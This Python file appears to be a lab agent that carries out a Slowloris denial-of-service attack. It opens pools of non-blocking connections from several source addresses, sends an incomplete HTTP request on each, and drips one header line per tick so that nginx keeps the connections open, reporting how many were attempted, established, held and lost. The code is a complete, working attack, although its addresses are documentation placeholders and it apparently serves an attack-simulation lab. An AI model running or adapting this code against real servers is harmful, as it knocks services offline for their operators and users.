"""Slowloris: each source keeps many connections open, each with a request it never finishes.

A lab agent (agent.py) in the attacker's namespace; its spec:

    {"host": "192.0.2.1", "port": 80, "sources": ["192.0.2.10", ...], "per_source": 100, "seconds": 5}

Every `tick` (0.5 s) each source tops its pool back up to `per_source` connections (non-blocking connects, so
a dropped SYN stalls nothing), as slowloris does when the server closes some; every established connection
sends the start of a request and then one more header line per tick, which keeps nginx waiting for the rest
(its client_header_timeout, 60 s by default, outlasts the run). Outcome: {"attempted" (connects),
"established", "held" (open at the end), "lost" (reset, closed or never established within 3 s)}.
"""
import select
import socket
import time

import agent

TICK = 0.5


def main():
    spec = agent.start()
    deadline = time.monotonic() + float(spec["seconds"])
    pools = {source: [] for source in spec["sources"]}   # source -> [(socket, opened at, established)]
    counts = {"attempted": 0, "established": 0, "lost": 0}

    def alive(entry):
        s, opened, established = entry
        try:
            if not established:
                _, writable, _ = select.select([], [s], [], 0)
                if not writable:
                    if time.monotonic() - opened > 3:
                        raise TimeoutError
                    return entry
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                    raise ConnectionRefusedError
                s.send(b"GET / HTTP/1.1\r\nHost: api.example.com\r\n")
                counts["established"] += 1
                return (s, opened, True)
            readable, _, _ = select.select([s], [], [], 0)
            if readable and s.recv(1) == b"":
                raise ConnectionResetError
            s.send(b"X-a: b\r\n")
            return entry
        except OSError:
            counts["lost"] += 1
            s.close()
            return None

    while time.monotonic() < deadline:
        tick_end = min(deadline, time.monotonic() + TICK)
        for source, pool in pools.items():
            pool[:] = [e for e in (alive(entry) for entry in pool) if e is not None]
            while len(pool) < int(spec["per_source"]):
                s = socket.socket()
                s.setblocking(False)
                s.bind((source, 0))
                counts["attempted"] += 1
                try:
                    s.connect((spec["host"], spec["port"]))
                except BlockingIOError:
                    pass
                except OSError:
                    counts["lost"] += 1
                    s.close()
                    break
                pool.append((s, time.monotonic(), False))
        time.sleep(max(0, tick_end - time.monotonic()))
    held = sum(1 for pool in pools.values() for _, _, established in pool if established)
    agent.finish(dict(counts, held=held))
    for pool in pools.values():
        for s, _, _ in pool:
            s.close()


if __name__ == "__main__":
    main()
